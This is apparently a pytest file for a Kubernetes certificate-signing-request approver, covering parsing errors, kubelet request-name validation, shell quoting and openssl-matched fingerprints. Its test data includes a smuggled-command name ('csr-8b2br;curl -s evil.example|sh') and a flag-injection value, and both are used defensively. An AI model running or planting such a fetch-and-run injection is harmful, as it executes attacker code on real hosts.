"""cluster.csr_request, pure: what a requester wrote is data (parser failures, names, shell words) and each
request's key fingerprint is the one openssl computes."""

from __future__ import annotations

import re
import shlex
import subprocess

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from cluster.csr_request import Request, digested_name, fingerprint, quoted, read_request
from tests.certs import EDI_PARTY_NAME, X400_ADDRESS, der, request_with_names

CLIENT_SIGNER = "kubernetes.io/kube-apiserver-client-kubelet"
KUBELET_USAGES = ("digital signature", "key encipherment", "client auth")  # bootstrap.go's, in its order


def node_request(common: str = "system:node:ocp4-worker-0") -> bytes:
    key = ec.generate_private_key(ec.SECP256R1())
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common), x509.NameAttribute(NameOID.ORGANIZATION_NAME, "system:nodes")])
    return x509.CertificateSigningRequestBuilder().subject_name(subject).sign(key, hashes.SHA256()).public_bytes(serialization.Encoding.PEM)


@pytest.mark.parametrize("name, names", [("x400Address", X400_ADDRESS), ("ediPartyName", EDI_PARTY_NAME)])
def test_a_name_go_reads_and_cryptography_does_not_is_a_reason_not_a_traceback(name, names):
    """Go's crypto/x509 skips these in a SAN (the API server takes the request); cryptography raises
    UnsupportedGeneralNameType, no ValueError, which once ended every approver pass."""
    pem = request_with_names("system:node:ocp4-worker-0", der(0x82, b"ocp4-worker-0") + names)
    with pytest.raises(ValueError) as raised:
        read_request(pem)
    assert str(raised.value) == "the request's extensions cannot be read here (UnsupportedGeneralNameType: x400Address/EDIPartyName are not supported types)"


GENERATOR = "bcdfghjklmnpqrstvwxz2456789"  # k8s.io/apimachinery pkg/util/rand, what generateName adds five of


@pytest.mark.parametrize(
    "name, kubelets",
    [
        ("csr-8b2br", True),
        (f"csr-{GENERATOR[:5]}", True),
        (f"csr-{GENERATOR[-5:]}", True),
        ("csr-8b2br;curl -s evil.example|sh", False),  # the forger: a shell line pasted
        ("--server=10.6.6.6:6443", False),  # a flag, were it given to oc without `--`
        ("csr-8b2ba", False),  # a vowel: never generated
        ("csr-8b2b1", False),
        ("csr-8b2br2", False),
        ("csr-8b2b", False),
        ("CSR-8B2BR", False),
        ("csr-8b2br\n", False),
        ("node-csr-" + "A" * 43, False),  # the right shape, not this request's digest
        ("x-csr-8b2br", False),
    ],
)
def test_only_the_names_a_kubelet_gives_its_request_pass(name, kubelets):
    request = Request(name, CLIENT_SIGNER, "u", KUBELET_USAGES, node_request())
    problem = request.name_problem()
    assert (problem == "") is kubelets, problem
    if not kubelets:
        assert problem.startswith(f"its name {quoted(name)} is not ")


def test_a_kubelet_without_rotation_names_its_request_by_its_digest():
    """bootstrap.go's digestedName: the key's SPKI, the CN, each O and each usage, base64url with `|`
    after each, SHA-512/256, base64url unpadded (43 characters)."""
    pem = node_request()
    name = digested_name(read_request(pem), KUBELET_USAGES)
    assert re.fullmatch(r"node-csr-[A-Za-z0-9_-]{43}", name)
    assert Request(name, CLIENT_SIGNER, "u", KUBELET_USAGES, pem).name_problem() == ""
    # The same name on another key, or other usages: not that request's.
    assert "is not the digest of its key" in Request(name, CLIENT_SIGNER, "u", KUBELET_USAGES, node_request()).name_problem()
    assert "is not the digest of its key" in Request(name, CLIENT_SIGNER, "u", KUBELET_USAGES[::-1], pem).name_problem()


@pytest.mark.parametrize("name", ["csr-8b2br;curl -s evil.example|sh", "--server=10.6.6.6:6443", "a b", "it's", "csr-\x1b[2K"])
def test_a_quoted_name_is_one_shell_word_and_nothing_more(name):
    (word,) = shlex.split(quoted(name))
    assert word == name.replace("\x1b", "\\x1b")
    assert all(c.isprintable() for c in quoted(name))


def test_the_fingerprint_is_what_openssl_computes_of_the_request():
    pem = node_request()
    key = subprocess.run(["openssl", "req", "-pubkey", "-noout"], input=pem, capture_output=True, check=True).stdout
    digest = subprocess.run(["openssl", "pkey", "-pubin", "-outform", "DER"], input=key, capture_output=True, check=True).stdout
    printed = subprocess.run(["openssl", "sha256"], input=digest, capture_output=True, check=True).stdout.decode()
    assert printed.split("= ")[-1].strip() == fingerprint(read_request(pem))
